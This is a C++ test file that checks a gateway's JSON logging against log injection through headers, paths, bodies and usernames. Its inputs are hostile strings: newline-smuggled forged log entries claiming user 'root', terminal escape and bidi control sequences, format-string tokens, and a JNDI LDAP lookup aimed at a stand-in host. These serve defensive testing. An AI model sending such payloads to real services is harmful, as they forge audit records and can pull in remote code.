// Log injection: whatever a request holds, each line of the log is one JSON object of ours, without a byte that a
// terminal obeys, and says who asked by what we know.
#include <fmt/format.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <sstream>

#include "core/telemetry/log.hpp"
#include "gateway/testing/estate.hpp"

namespace agentauri::gateway {
namespace {

using testing::Estate;
using testing::HeaderList;

const std::string kForged = R"({"level":"info","message":"forged","user_id":"root"})";
const std::vector<std::string> kTexts{
    "a\n" + kForged,
    "a\r\n" + kForged,
    "a\",\"user_id\":\"root\",\"message\":\"forged",
    "a\\\",\"message\":\"forged",
    "\x1b[2J\x1b[1;31mforged\x1b[0m",
    "\x1b]0;forged\x07",
    "\u009b2Jforged",   // CSI in one character
    "\u0085forged",     // next line
    "\u2028forged",
    "\u202eforged",
    "\x08\x08\x08\x08"
    "forged\x7f",
    std::string("a\0forged", 8),
    "\xff\xfe"
    "forged",
    "${jndi:ldap://evil.example/forged}",
    "%s%n%x forged {} {0}",
    std::string(20'000, 'f') + "forged",
};

std::string logged(const std::function<void()>& action) {
  ::testing::internal::CaptureStdout();
  action();
  flush_log();
  return ::testing::internal::GetCapturedStdout();
}

// What a terminal, or a reader that splits lines as Unicode has it, would act on.
bool is_obeyed(std::string_view line) {
  for (std::size_t i = 0; i < line.size(); ++i) {
    const auto byte = static_cast<unsigned char>(line[i]);
    if (byte < 0x20 || byte == 0x7F) return true;
    const auto rest = line.substr(i);
    if (byte == 0xC2 && rest.size() > 1 && static_cast<unsigned char>(rest[1]) < 0xA0) return true;
    for (const char* mark : {"\u2028", "\u2029", "\u202a", "\u202b", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068"})
      if (rest.starts_with(mark)) return true;
  }
  return false;
}

void expect_ours(const std::string& log, std::size_t at_least) {
  std::istringstream lines(log);
  std::size_t count = 0;
  for (std::string line; std::getline(lines, line); ++count) {
    const auto parsed = json::parse(line);
    ASSERT_TRUE(parsed && parsed->is_object()) << line;
    const auto& object = parsed->get_object();
    EXPECT_FALSE(is_obeyed(line)) << line;
    EXPECT_NE(json::view(object.at("message").get_string()), "forged") << line;
    if (const auto* user = json::find(object, "user_id")) EXPECT_NE(json::view(user->get_string()), "root") << line;
    EXPECT_LT(line.size(), 20'000U) << "a field is bounded";
  }
  EXPECT_GE(count, at_least) << "one line for each request";
}

TEST(LogInjection, ARequestsFieldsStayInTheirPlace) {
  Estate estate;
  for (const auto& text : kTexts) {
    std::size_t asked = 0;
    expect_ours(
        logged([&] {
          for (const char* name : {"User-Agent", "X-Request-ID", "Referer", "Origin", "X-Forwarded-For", "X-Real-IP",
                                   "Cookie", "Authorization", "X-API-Key", "X-Organization-ID", "Idempotency-Key",
                                   "Content-Type", "Accept", "Host"}) {
            auto headers = estate.owner;
            std::erase_if(headers, [&](const auto& header) { return header.first == name; });
            headers.emplace_back(name, text);
            estate.h.call({"GET", "/api/v1/triggers", std::nullopt, headers, "203.0.113.7"});
            estate.h.call({"POST", "/api/v1/triggers", R"({"name":"t","registry":"identity"})", headers, "10.0.0.1"});
            asked += 2;
          }
        }),
        asked);
  }
}

TEST(LogInjection, PathsMethodsAndNamesToo) {
  Estate estate;
  for (const auto& text : kTexts) {
    const auto quoted = json::dump(json::String(text.substr(0, 200)));
    expect_ours(logged([&] {
                  estate.h.get("/api/v1/triggers/" + net::percent_encode(text.substr(0, 500)), estate.owner);
                  estate.h.get("/" + net::percent_encode(text.substr(0, 500)), estate.owner);
                  estate.h.get("/api/v1/events?search=" + net::percent_encode(text.substr(0, 500)), estate.owner);
                  estate.h.call({text.substr(0, 100), "/api/v1/triggers", std::nullopt, estate.owner, "203.0.113.7"});
                  estate.h.post("/api/v1/triggers", fmt::format(R"({{"name":{},"registry":{}}})", quoted, quoted),
                                estate.owner);
                  estate.h.post("/api/v1/triggers", text, estate.owner);
                  estate.h.post("/api/v1/auth/login",
                                fmt::format(R"({{"username":{},"password":{}}})", quoted, quoted));
                  estate.h.post("/api/v1/auth/refresh", fmt::format(R"({{"refresh_token":{}}})", quoted));
                }),
                8);
  }
}

// A user whose name is an attack, and all that is logged of what they do.
TEST(LogInjection, AUserMayBeCalledAnything) {
  Estate estate;
  int n = 0;
  for (const auto& text :
       {"x\n" + kForged.substr(0, 40), std::string("\x1b[31mx"), std::string("\u009bxyz"), std::string("\u202exyz")}) {
    json::Object body;
    body["username"] = json::String(text);
    body["email"] = json::String(fmt::format("u{}@example.org", ++n));
    body["password"] = json::String(testing::kPassword);
    expect_ours(logged([&] {
                  const auto made = estate.h.post("/api/v1/auth/register", json::dump(body));
                  EXPECT_EQ(made.status, 201) << made.text;
                  const auto who = testing::Harness::bearer(made);
                  EXPECT_EQ(estate.h.get("/api/v1/auth/me", who).at("username"), text);
                  for (int i = 0; i < 6; ++i) estate.h.log_in(text, "wrong");
                  estate.h.post("/api/v1/auth/logout", "{}", who);
                }),
                8);
  }
}

}   // namespace
}   // namespace agentauri::gateway
